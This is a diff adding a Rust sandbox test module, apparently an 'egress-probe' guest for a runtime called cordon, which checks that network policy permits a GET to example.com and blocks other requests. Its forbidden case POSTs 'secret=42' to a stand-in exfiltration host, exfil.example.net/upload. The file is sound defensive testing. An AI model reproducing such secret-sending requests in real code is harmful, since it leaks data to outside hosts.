@@ -1,0 +1,45 @@
+//! egress-probe: tries two outbound requests, one its policy permits (a GET to example.com) and
+//! one it forbids (a POST elsewhere), and reports each outcome: the status and size of a response,
+//! or the typed error (`access-denied`, or `unsupported` on a host without HTTP).
+
+use cordon_guest::Error;
+use cordon_guest::http::{self, Request};
+use serde::Deserialize;
+use serde_json::{Value, json};
+
+/// Optional input: `{"allowed": "<url>", "forbidden": "<url>"}`.
+#[derive(Deserialize, Default)]
+#[serde(default, deny_unknown_fields)]
+struct Input {
+    allowed: Option<String>,
+    forbidden: Option<String>,
+}
+
+fn probe(request: Request) -> Value {
+    let (method, url) = (request.method.clone(), request.url.clone());
+    let outcome = match http::send(request) {
+        Ok(response) => json!({
+            "status": response.status,
+            "bytes": response.body.len(),
+            "content_type": response.header("content-type"),
+        }),
+        Err(err) => json!({ "error": err }),
+    };
+    json!({ "method": method, "url": url, "outcome": outcome })
+}
+
+fn run(input: Option<Input>) -> Result<Value, Error> {
+    let input = input.unwrap_or_default();
+    let allowed = input
+        .allowed
+        .unwrap_or_else(|| "https://example.com/".to_owned());
+    let forbidden = input
+        .forbidden
+        .unwrap_or_else(|| "https://exfil.example.net/upload".to_owned());
+    Ok(json!({
+        "allowed": probe(Request::get(allowed)),
+        "forbidden": probe(Request::post(forbidden, "secret=42").header("content-type", "text/plain")),
+    }))
+}
+
+cordon_guest::export!(run);
